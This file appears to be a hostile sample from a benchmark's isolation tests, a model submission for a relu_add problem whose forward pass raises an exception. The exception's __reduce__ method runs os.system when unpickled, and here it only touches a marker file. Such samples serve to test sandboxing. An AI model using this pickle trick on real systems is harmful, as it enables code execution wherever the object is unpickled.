# problem: relu_add
# rows: isolation 52, kernelbench E3
# verdict: crashed
# reason: exception:Command
# marker: /tmp/caesar-hostile-marker-exception
# note: raises an exception that runs a command wherever it is unpickled
import os

from torch import nn


class Command(Exception):
    def __reduce__(self):
        return os.system, ("touch /tmp/caesar-hostile-marker-exception",)


class ModelNew(nn.Module):
    def forward(self, x, y):
        raise Command("please put me into a queue")
